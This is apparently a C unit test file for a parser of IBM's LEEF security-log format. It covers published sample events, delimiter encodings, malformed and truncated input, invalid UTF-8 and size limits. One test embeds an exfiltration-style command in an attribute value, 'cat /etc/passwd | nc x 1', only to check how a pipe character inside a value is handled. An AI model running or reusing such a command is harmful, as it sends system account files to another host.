/* test_leef.c: the LEEF parser on IBM's published 1.0 and 2.0 examples, every form of the 2.0
 * delimiter field, attribute edge cases, and hostile input (NUL, bad UTF-8, cut messages). */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "formats/leef.h"
#include "test_util.h"

static struct gg_leef *parse_ok(const char *s)
{
	struct gg_leef *leef = NULL;
	struct gg_error err = { 0 };
	int rc = gg_leef_parse(s, strlen(s), NULL, &leef, &err);

	if (rc != 0)
		fail_msg("gg_leef_parse(%s): %d %s", s, rc, err.msg);
	assert_non_null(leef);
	return leef;
}

/* Parses s expecting code; returns the offset the error names (its column - 1). */
static size_t parse_fails(const char *s, size_t len, const struct gg_kv_limits *lim, int code)
{
	struct gg_leef *leef = (struct gg_leef *)1;
	struct gg_error err = { 0 };
	char where[32];

	assert_int_equal(gg_leef_parse(s, len, lim, &leef, &err), code);
	assert_null(leef);
	assert_int_equal(err.line, 1);
	snprintf(where, sizeof(where), "leef: byte %d: ", err.column - 1);
	assert_non_null(strstr(err.msg, where));
	return (size_t)err.column - 1;
}

static void assert_attr(const struct gg_leef *leef, size_t i, const char *key, const char *value)
{
	assert_true(i < leef->attrs->n);
	assert_string_equal(leef->attrs->pairs[i].key, key);
	assert_string_equal(leef->attrs->pairs[i].value, value);
	assert_int_equal(leef->attrs->pairs[i].key_len, strlen(key));
	assert_int_equal(leef->attrs->pairs[i].value_len, strlen(value));
}

/* Vector: leef1-ibm-msexchange.txt (IBM, "LEEF event components"). */
static void test_ibm_leef1(void **state)
{
	size_t len;
	char *buf = gg_test_read_data("payload/leef1-ibm-msexchange.txt", &len);
	struct gg_leef *leef = NULL;
	struct gg_error err = { 0 };

	assert_int_equal(gg_leef_parse(buf, len, NULL, &leef, &err), 0);
	assert_int_equal(leef->version, 1);
	assert_string_equal(leef->version_text, "1.0");
	assert_string_equal(leef->vendor, "Microsoft");
	assert_string_equal(leef->product, "MSExchange");
	assert_string_equal(leef->product_version, "4.0 SP1");
	assert_string_equal(leef->event_id, "15345");
	assert_string_equal(leef->delimiter, "\t");
	assert_int_equal(leef->delimiter_len, 1);
	assert_int_equal(leef->attrs->n, 7);
	assert_attr(leef, 0, "src", "192.0.2.0");
	assert_attr(leef, 1, "dst", "172.50.123.1");
	assert_attr(leef, 2, "sev", "5");
	assert_attr(leef, 3, "cat", "anomaly");
	assert_attr(leef, 6, "usrName", "joe.black");
	assert_int_equal(leef->attrs->pairs[0].offset, (size_t)(strstr(buf, "src=") - buf));
	gg_leef_free(leef);
	free(buf);
}

/* Vector: leef2-ibm-stealthwatch.txt (IBM's 2.0 header with '^', as Tenzir's docs give it). */
static void test_ibm_leef2(void **state)
{
	size_t len;
	char *buf = gg_test_read_data("payload/leef2-ibm-stealthwatch.txt", &len);
	struct gg_leef *leef = NULL;
	struct gg_error err = { 0 };

	assert_int_equal(gg_leef_parse(buf, len, NULL, &leef, &err), 0);
	assert_int_equal(leef->version, 2);
	assert_string_equal(leef->vendor, "Lancope");
	assert_string_equal(leef->product, "StealthWatch");
	assert_string_equal(leef->product_version, "1.0");
	assert_string_equal(leef->event_id, "41");
	assert_string_equal(leef->delimiter, "^");
	assert_int_equal(leef->attrs->n, 5);
	assert_attr(leef, 0, "src", "10.0.1.8");
	assert_attr(leef, 4, "dstPort", "21");
	gg_leef_free(leef);
	free(buf);
}

/* The guide's delimiter forms: one character, 0x and x with 1-4 hex digits, and our reading
 * of an empty field (tab) and of code points above 0x7F (UTF-8). */
static void test_delimiter_forms(void **state)
{
	static const struct {
		const char *field, *delim, *attrs;
	} ok[] = {
		{ "^", "^", "a=1^b=2" },
		{ "0x5E", "^", "a=1^b=2" },
		{ "x5E", "^", "a=1^b=2" },
		{ "X5e", "^", "a=1^b=2" },
		{ "0x09", "\t", "a=1\tb=2" },
		{ "x9", "\t", "a=1\tb=2" },
		{ "", "\t", "a=1\tb=2" },
		{ "x", "x", "a=1xb=2" },
		{ "0", "0", "a=102=2" },
		/* '|' itself cannot be written in the field (it ends it); its hex form can. */
		{ "0x7C", "|", "a=1|b=2" },
		{ " ", " ", "a=1 b=2" },
		{ "0x00A6", "\xc2\xa6", "a=1\xc2\xa6" "b=2" },
		{ "x20AC", "\xe2\x82\xac", "a=1\xe2\x82\xac" "b=2" },
		{ "\xc2\xa6", "\xc2\xa6", "a=1\xc2\xa6" "b=2" },
		{ "\xf0\x9f\x94\x92", "\xf0\x9f\x94\x92", "a=1\xf0\x9f\x94\x92" "b=2" },
	};
	static const char *const bad[] = { "0x", "xx", "ab", "=", "0x3D", "0x0", "xD800",
					   "x12345", "0x5G", "^^", "x-1" };
	char msg[128];
	size_t i;

	for (i = 0; i < sizeof(ok) / sizeof(ok[0]); i++) {
		struct gg_leef *leef;

		snprintf(msg, sizeof(msg), "LEEF:2.0|V|P|1|E|%s|%s", ok[i].field, ok[i].attrs);
		leef = parse_ok(msg);
		assert_string_equal(leef->delimiter, ok[i].delim);
		assert_int_equal(leef->delimiter_len, strlen(ok[i].delim));
		assert_int_equal(leef->attrs->n, 2);
		if (strcmp(ok[i].field, "0") == 0) {
			/* A '0' delimiter splits "a=102=2" into "a=1" and "2=2". */
			assert_attr(leef, 0, "a", "1");
			assert_attr(leef, 1, "2", "2");
		} else {
			assert_attr(leef, 0, "a", "1");
			assert_attr(leef, 1, "b", "2");
		}
		gg_leef_free(leef);
	}
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		snprintf(msg, sizeof(msg), "LEEF:2.0|V|P|1|E|%s|a=1", bad[i]);
		assert_int_equal(parse_fails(msg, strlen(msg), NULL, -EINVAL), 17);
	}
}

/* Trend Micro Deep Security writes LEEF 2.0 without the delimiter field (Deep Security
 * "Syslog message formats": LEEF:2.0|Trend Micro|Deep Security Agent|<ver>|<id>|cat=...):
 * the attributes follow the event id, tab-separated. */
static void test_no_delimiter_field(void **state)
{
	static const char msg[] = "LEEF:2.0|Trend Micro|Deep Security Agent|20.0.0.877|4000000|"
				   "cat=Anti-Malware\tname=Eicar_test_file\tsev=6\tsrc=10.0.0.5";
	static const char piped[] = "LEEF:2.0|Trend Micro|Deep Security Agent|20.0.0.877|4000000|"
				     "cat=Anti-Malware\tcmd=cat /etc/passwd | nc x 1\tsrc=10.0.0.5";
	struct gg_leef *leef = NULL;
	struct gg_error err = { 0 };

	(void)state;
	assert_int_equal(gg_leef_parse(msg, sizeof(msg) - 1, NULL, &leef, &err), 0);
	assert_int_equal(leef->version, 2);
	assert_string_equal(leef->event_id, "4000000");
	assert_string_equal(leef->delimiter, "\t");
	assert_int_equal(leef->attrs->n, 4);
	assert_string_equal(gg_kv_find(leef->attrs, "cat")->value, "Anti-Malware");
	assert_string_equal(gg_kv_find(leef->attrs, "src")->value, "10.0.0.5");
	gg_leef_free(leef);
	/* A '|' in an attribute value: the text after the event id is still attributes, not a
	 * delimiter field ended at that '|'. */
	leef = NULL;
	assert_int_equal(gg_leef_parse(piped, sizeof(piped) - 1, NULL, &leef, &err), 0);
	assert_int_equal(leef->version, 2);
	assert_string_equal(leef->delimiter, "\t");
	assert_int_equal(leef->attrs->n, 3);
	assert_string_equal(gg_kv_find(leef->attrs, "cat")->value, "Anti-Malware");
	assert_string_equal(gg_kv_find(leef->attrs, "cmd")->value, "cat /etc/passwd | nc x 1");
	assert_string_equal(gg_kv_find(leef->attrs, "src")->value, "10.0.0.5");
	gg_leef_free(leef);
}

static void test_attribute_shapes(void **state)
{
	struct gg_leef *leef;

	/* Values keep spaces and '='; empty attributes are skipped; duplicates stay in order;
	 * devTime is a plain pair for the mapping engine. */
	leef = parse_ok("  LEEF:1.0|V|P|1|E|devTime=Oct 12 2019 13:08:55\t\t"
			"devTimeFormat=MMM dd yyyy HH:mm:ss\turl=http://x/?a=b&c=d\tcat=\t"
			"cat=second\t\r\n");
	assert_int_equal(leef->attrs->n, 5);
	assert_attr(leef, 0, "devTime", "Oct 12 2019 13:08:55");
	assert_attr(leef, 1, "devTimeFormat", "MMM dd yyyy HH:mm:ss");
	assert_attr(leef, 2, "url", "http://x/?a=b&c=d");
	assert_attr(leef, 3, "cat", "");
	assert_attr(leef, 4, "cat", "second");
	assert_string_equal(gg_kv_find(leef->attrs, "cat")->value, "");
	gg_leef_free(leef);
	/* A header only, with and without the trailing pipe's attributes. */
	leef = parse_ok("LEEF:2.0|V|P|1|E|^|");
	assert_int_equal(leef->attrs->n, 0);
	gg_leef_free(leef);
	/* Header fields have no escapes: a backslash is a byte like any other. */
	leef = parse_ok("LEEF:1|V\\|P|1|E|");
	assert_int_equal(leef->version, 1);
	assert_string_equal(leef->version_text, "1");
	assert_string_equal(leef->vendor, "V\\");
	assert_string_equal(leef->product, "P");
	gg_leef_free(leef);
	/* In 1.0 '^' is data, not a delimiter. */
	leef = parse_ok("LEEF:1.0|V|P|1|E|a=1^b=2");
	assert_int_equal(leef->attrs->n, 1);
	assert_attr(leef, 0, "a", "1^b=2");
	gg_leef_free(leef);
}

static void test_malformed(void **state)
{
	static const struct {
		const char *msg;
		size_t offset;
	} cases[] = {
		{ "CEF:0|a|b|c|d|e|1|", 0 },
		{ "leef:1.0|V|P|1|E|", 0 },
		{ "LEEF:3.0|V|P|1|E|", 5 },
		{ "LEEF:1.1|V|P|1|E|", 5 },
		{ "LEEF:|V|P|1|E|", 5 },
		{ "LEEF:1.0", 8 },
		{ "LEEF:1.0|V|P|1|E", 16 },           /* 4 of 5 pipes */
		{ "LEEF:1.0|V|P|1|E|src", 17 },       /* attribute without '=' */
		{ "LEEF:1.0|V|P|1|E|a=1\tnovalue", 21 },
		{ "LEEF:1.0|V|P|1|E|=1", 17 },        /* empty key */
		{ "LEEF:2.0|V|P|1|E|^|a=1^=2", 23 },
	};
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct gg_leef *leef = NULL;
		struct gg_error err = { 0 };
		int rc = gg_leef_parse(cases[i].msg, strlen(cases[i].msg), NULL, &leef, &err);

		if (rc != -EINVAL || (size_t)err.column - 1 != cases[i].offset)
			fail_msg("case %zu (%s): rc %d, %s", i, cases[i].msg, rc, err.msg);
		assert_null(leef);
	}
}

static void test_nul_utf8_limits(void **state)
{
	static const char nul[] = "LEEF:1.0|V|P|1|E|a=\0";
	static const char latin1[] = "LEEF:1.0|V|P|1|E|usrName=Jos\xe9";
	struct gg_kv_limits lax = { .flags = GG_KV_ALLOW_BAD_UTF8 };
	struct gg_kv_limits two = { .max_pairs = 2 };
	struct gg_kv_limits short_len = { .max_len = 16 };
	struct gg_leef *leef = NULL;
	struct gg_error err = { 0 };
	char *big;

	assert_int_equal(parse_fails(nul, sizeof(nul) - 1, NULL, -EILSEQ), 19);
	assert_int_equal(parse_fails(latin1, sizeof(latin1) - 1, NULL, -EILSEQ), 28);
	assert_int_equal(gg_leef_parse(latin1, sizeof(latin1) - 1, &lax, &leef, &err), 0);
	assert_int_equal(leef->attrs->bad_utf8_at, 28);
	assert_attr(leef, 0, "usrName", "Jos\xe9");
	gg_leef_free(leef);
	/* With bad UTF-8 allowed, a lone high byte is a one-byte delimiter. */
	assert_int_equal(gg_leef_parse("LEEF:2.0|V|P|1|E|\xa6|a=1\xa6" "b=2", 26, &lax, &leef,
				       &err), 0);
	assert_int_equal(leef->delimiter_len, 1);
	assert_int_equal(leef->attrs->n, 2);
	gg_leef_free(leef);
	assert_int_equal(parse_fails("LEEF:1.0|V|P|1|E|a=1\tb=2\tc=3", 28, &two, -E2BIG), 25);
	parse_fails("LEEF:1.0|V|P|1|E|", 17, &short_len, -E2BIG);
	big = malloc(GG_KV_DEFAULT_MAX_LEN + 1);
	assert_non_null(big);
	memset(big, 'a', GG_KV_DEFAULT_MAX_LEN + 1);
	memcpy(big, "LEEF:1.0|V|P|1|E|a=", 19);
	parse_fails(big, GG_KV_DEFAULT_MAX_LEN + 1, NULL, -E2BIG);
	/* One byte less is within the limit: one long value. */
	assert_int_equal(gg_leef_parse(big, GG_KV_DEFAULT_MAX_LEN, NULL, &leef, &err), 0);
	assert_int_equal(leef->attrs->pairs[0].value_len, GG_KV_DEFAULT_MAX_LEN - 19);
	gg_leef_free(leef);
	free(big);
}

/* Every prefix of valid messages, each in a buffer of exactly its length (ASan sees any read
 * past the end); a prefix may parse or fail but must not crash or leak. */
static void test_every_prefix(void **state)
{
	static const char multibyte[] = "LEEF:2.0|V|P|1|E|x20AC|a=1\xe2\x82\xac" "b=\xc3\xa9\xe2\x82"
					"\xac\xe2\x82\xac" "c=3";
	size_t n, k, len;

	for (n = 0; n < 3; n++) {
		char *buf = n == 0 ? gg_test_read_data("payload/leef1-ibm-msexchange.txt", &len)
			  : n == 1 ? gg_test_read_data("payload/leef2-ibm-stealthwatch.txt", &len)
				   : strdup(multibyte);

		if (n == 2)
			len = strlen(buf);
		for (k = 0; k <= len; k++) {
			char *p = malloc(k ? k : 1);
			struct gg_leef *leef = NULL;
			struct gg_error err = { 0 };

			assert_non_null(p);
			memcpy(p, buf, k);
			if (gg_leef_parse(p, k, NULL, &leef, &err) == 0)
				assert_non_null(leef);
			else
				assert_null(leef);
			gg_leef_free(leef);
			free(p);
		}
		free(buf);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ibm_leef1),
		cmocka_unit_test(test_ibm_leef2),
		cmocka_unit_test(test_delimiter_forms),
		cmocka_unit_test(test_no_delimiter_field),
		cmocka_unit_test(test_attribute_shapes),
		cmocka_unit_test(test_malformed),
		cmocka_unit_test(test_nul_utf8_limits),
		cmocka_unit_test(test_every_prefix),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
